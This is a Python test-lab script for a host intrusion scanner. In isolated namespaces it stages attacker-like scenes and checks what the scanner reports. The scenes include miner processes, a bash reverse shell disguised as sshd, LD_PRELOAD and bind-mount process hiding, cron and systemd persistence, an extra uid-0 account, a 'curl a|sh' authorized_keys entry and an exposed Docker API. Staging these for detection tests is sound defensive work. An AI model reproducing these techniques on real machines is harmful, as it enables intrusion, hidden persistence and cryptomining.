"""Plays one scene of tests/lab/test_host.py inside namespaces of its own, and prints what was seen of it as JSON.

`unshare -mpnf --mount-proc python -m tests.lab.scene NAME FOLDER`; FOLDER holds the compiled stand-ins.
"""

import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

from scanner.host.check import load_checks
from scanner.host.reading.machine import Place, read_machine
from scanner.host.weigh import judge
from tests.support.engine import Engine

SHM = Path("/dev/shm")


class Scene:
    def __init__(self, folder):
        self.folder = folder
        self.root = folder / "root"
        self.root.mkdir(exist_ok=True)
        subprocess.run(["mount", "-t", "tmpfs", "tmpfs", SHM], check=True)
        subprocess.run(
            "ip link set lo up; ip addr add 8.8.4.4/32 dev lo; ip addr add 10.9.8.7/32 dev lo", shell=True, check=True
        )
        self.pool = socket.create_server(("8.8.4.4", 3333), backlog=64)

    def start(self, *argv, path=None, **options):
        """Start a program that says `ready`, and return its process id."""
        target = Path(path or self.folder / "intruder")
        if target != self.folder / "intruder" and not target.exists():
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(self.folder / "intruder", target)
        started = subprocess.Popen([str(target), *argv], stdout=subprocess.PIPE, **options)
        assert started.stdout.readline() == b"ready\n"
        return started.pid

    def write(self, path, text):
        file = self.root / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)


def seen(scene, pids, *, uid=0, wait_s=0.2, proc="/proc"):
    """Return what the checks say, as a user; the reading runs in a child, so that it can give root away."""
    load_checks()
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        if uid:
            os.setgroups([])
            os.setgid(uid)
            os.setuid(uid)
        pause = threading.Event()
        snapshot = read_machine(Place(root=scene.root, proc=Path(proc)), wait=lambda: pause.wait(wait_s) and None)
        judgement = judge(snapshot, load_checks())
        names = {pid: name for name, pid in pids.items()}
        told = {
            "alarms": {
                names.get(alarm.subject.number, alarm.subject.name): sorted({sign.check for sign in alarm.signs})
                for alarm in judgement.alarms
            },
            "notes": [[names.get(s.subject.number, s.subject.name), s.check, s.detail] for s in judgement.notes],
            "gaps": [list(gap) for gap in snapshot.gaps],
        }
        with os.fdopen(write, "w") as out:
            json.dump(told, out)
        os._exit(0)
    os.close(write)
    with os.fdopen(read) as text:
        told = json.load(text)
    os.waitpid(child, 0)
    return told


def dishonest(scene):
    """Start one process of each kind."""
    gone = SHM / ".x" / "run"
    pids = {
        "wiped": scene.start("-w", path=SHM / "a"),
        "deleted": scene.start("-s", path=gone),
        "kernel": scene.start("-s", "-n", "kworker/0:1"),
        "pool": scene.start("-s", "-c", "3333", "-w"),
        "threaded": scene.start("-t", "-w", path=SHM / "t"),
        "named": scene.start("-s", path=SHM / "xmrig"),
        "preloaded": scene.start(
            "-s", path=SHM / "b", env={"LD_PRELOAD": str(shutil.copy(scene.folder / "hider.so", SHM / "lib.so"))}
        ),
    }
    gone.unlink()
    memory = os.memfd_create("x", 0)
    os.write(memory, (scene.folder / "intruder").read_bytes())
    pids["memory"] = scene.start("-s", "-w", path=f"/proc/self/fd/{memory}", pass_fds=(memory,))
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/usr/games"], check=True)
    pids["reader"] = scene.start("-s", "-c", "3333", "stratum+tcp://pool", path="/usr/games/top")
    far = socket.socket()
    far.connect(("8.8.4.4", 3333))
    pids["shell"] = subprocess.Popen(["sshd"], executable="/bin/bash", stdin=far, stdout=far, stderr=far).pid
    pids["covered"] = scene.start("-s", path=SHM / "c")
    (SHM / "empty").mkdir()
    subprocess.run(["mount", "--bind", SHM / "empty", f"/proc/{pids['covered']}"], check=True)
    return pids


def play_dishonest(scene):
    pids = dishonest(scene)
    return seen(scene, pids)


def play_ordinary(scene):
    pids = dishonest(scene)
    own = subprocess.Popen([SHM / "a", "-w"], stdout=subprocess.PIPE, user=65534, group=65534, extra_groups=[], cwd="/")
    assert own.stdout.readline() == b"ready\n"
    return seen(scene, {**pids, "own": own.pid}, uid=65534)


def play_hidepid(scene):
    pids = dishonest(scene)
    subprocess.run(["mount", "-o", "remount,hidepid=2", "/proc"], check=True)
    return seen(scene, pids, uid=65534)


def play_hidden(scene):
    """A preloaded library filters readdir for every program, so for the scanner too."""
    pid = scene.start("-s", path="/usr/local/bin/quiet-one")
    looking = [sys.executable, "-m", "tests.lab.scene", "--look", str(scene.folder)]
    environment = {**os.environ, "LD_PRELOAD": str(scene.folder / "hider.so"), "HIDE": str(pid)}
    done = subprocess.run(looking, env=environment, capture_output=True, text=True, check=True)
    return json.loads(done.stdout) | {"pid": pid}


def play_files(scene):
    scene.write("etc/cron.d/x", "* * * * * root /mac.sh\n")
    scene.write("etc/systemd/system/x.service", "[Service]\nExecStart=/dev/shm/d -s\n")
    scene.write("etc/ld.so.preload", "/usr/local/lib/x.so\n")
    scene.write("etc/passwd", "root:x:0:0::/root:/bin/sh\nsys:x:0:0::/:/bin/sh\n")
    scene.write("root/.ssh/authorized_keys", 'command="curl a|sh" ssh-rsa AAA x@y\n')
    (scene.root / "root/.bash_history").symlink_to("/dev/null")
    return seen(scene, {"entry": scene.start("-s", path=SHM / "d")})


def play_honest(scene):
    """What honest machines show: an upgrade, hidden folders, a preloaded allocator, a sealed memfd, builds."""
    daemon = Path("/usr/local/bin/honest-daemon")
    pids = {"upgraded": scene.start("-s", path=daemon)}
    shutil.copy(scene.folder / "intruder", f"{daemon}.new")
    Path(f"{daemon}.new").replace(daemon)
    pids["pyenv"] = scene.start("-s", path="/root/.honest/versions/3/bin/python3")
    library = next(
        path
        for path in ("/lib/x86_64-linux-gnu/libm.so.6", "/usr/lib64/libm.so.6", "/lib/aarch64-linux-gnu/libm.so.6")
        if Path(path).exists()
    )
    pids["jemalloc"] = scene.start(env={"LD_PRELOAD": library})
    memory = os.memfd_create("sealed", os.MFD_ALLOW_SEALING)
    os.write(memory, (scene.folder / "intruder").read_bytes())
    pids["memfd"] = scene.start("-s", path=f"/proc/self/fd/{memory}", pass_fds=(memory,))
    image = Path("/dev/shm/.mount_App1")
    image.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", image], check=True)
    pids["appimage"] = scene.start("-s", path=image / "usr/bin/app")
    # DKMS, go test and friends: make runs a program of a temporary folder which takes all that it gets.
    (SHM / "build").mkdir()
    shutil.copy(scene.folder / "intruder", SHM / "build/x.test")
    (SHM / "build/Makefile").write_text("all:\n\t./x.test & ./x.test >/dev/null; true\n")
    tool = subprocess.Popen(["make", "-s", "-C", SHM / "build"], stdout=subprocess.DEVNULL)
    functions = "".join(f"int f{n}(int a){{return a*{n};}}\n" for n in range(3000))
    (SHM / "w.c").write_text("int main(){return 0;}\n" + functions)
    compiling = subprocess.Popen(
        f"while :; do gcc -O2 -c {SHM}/w.c -o {SHM}/w.o; cp {scene.folder}/intruder {daemon}.new;"
        f" mv {daemon}.new {daemon}; done",
        shell=True,
        start_new_session=True,
    )
    rounds = [seen(scene, pids, wait_s=0.05)["alarms"] for _ in range(20)]
    compiling.kill()
    tool.kill()
    daemon.unlink()
    return {"rounds": rounds}


def play_incident(scene):
    """Docker's API on 0.0.0.0, a container that runs /mac.sh, a wiped and deleted process at a pool, no history."""
    scene.write("etc/docker/daemon.json", '{\n  "hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"]\n}\n')
    scene.write("etc/passwd", "root:x:0:0::/root:/bin/sh\n")
    (scene.root / "root").mkdir()
    (scene.root / "root/.bash_history").symlink_to("/dev/null")
    (scene.root / "run").mkdir()
    gone = SHM / ".x" / "run"
    scene.start("-w", "-c", "3333", path=gone)
    gone.unlink()
    daemon = subprocess.Popen(
        ["/usr/bin/dockerd", "-m", "tests.support.engine", str(scene.root / "run/docker.sock"), "2375"],
        executable=sys.executable,
        env={**os.environ, "PYTHONHOME": sys.base_prefix},
        stdout=subprocess.PIPE,
    )
    assert daemon.stdout.readline() == b"ready\n"
    told = {}
    for name, extra in (
        ("json", ["-f", "json"]),
        ("story", []),
        ("evidence", ["--evidence", str(scene.folder / "kept")]),
    ):
        words = [sys.executable, "-m", "scanner.cli", "host", "--confirm", "--watch", "0.2", "--root", str(scene.root)]
        done = subprocess.run([*words, *extra], capture_output=True, text=True, check=False)
        told[name], told[f"{name}_code"] = done.stdout or done.stderr, done.returncode
        told[f"{name}_err"] = done.stderr
    daemon.terminate()
    return told


def play_docker(scene):
    """A real Docker daemon that its daemon.json opens, and a real container that runs /mac.sh."""
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/run"], check=True)
    config = scene.folder / "daemon.json"
    settings = {
        "hosts": ["unix:///run/docker.sock", "tcp://0.0.0.0:2375"],
        "data-root": str(scene.folder / "data"),
        "exec-root": "/run/docker",
        "storage-driver": "vfs",
        "bridge": "none",
        "iptables": False,
    }
    config.write_text(json.dumps(settings, indent=0))
    log = (scene.folder / "dockerd.log").open("w")
    subprocess.Popen(["dockerd", "--config-file", str(config)], stdout=log, stderr=log)
    docker = ["docker", "-H", "unix:///run/docker.sock"]
    pause = threading.Event()
    for _ in range(150):
        if subprocess.run([*docker, "version"], capture_output=True, check=False).returncode == 0:
            break
        pause.wait(0.2)
    image = scene.folder / "image"
    image.mkdir()
    shutil.copy(scene.folder / "static", image / "mac.sh")
    packed = shutil.make_archive(str(image), "tar", image)
    subprocess.run([*docker, "import", packed, "ubuntu:18.04"], capture_output=True, check=False)
    options = ["--name", "miner", "--network", "host", "-v", "/:/mnt"]
    started = subprocess.run(
        [*docker, "run", "-d", *options, "ubuntu:18.04", "/mac.sh"], capture_output=True, check=False
    )
    if started.returncode:
        return {"refused": started.stderr.decode()}
    words = [sys.executable, "-m", "scanner.cli", "host", "--confirm", "--watch", "0.2", "-f", "json"]
    done = subprocess.run(words, capture_output=True, text=True, check=False)
    return {"report": json.loads(done.stdout), "code": done.returncode}


def main():
    if sys.argv[1] == "--look":
        folder = Path(sys.argv[2])
        scene = Scene.__new__(Scene)
        scene.root = folder / "root"
        json.dump(seen(scene, {}), sys.stdout)
        return
    scene = Scene(Path(sys.argv[2]))
    json.dump(globals()[f"play_{sys.argv[1]}"](scene), sys.stdout)
    with contextlib.suppress(OSError):
        Path("/usr/local/bin/quiet-one").unlink()
    assert Engine


if __name__ == "__main__":
    main()
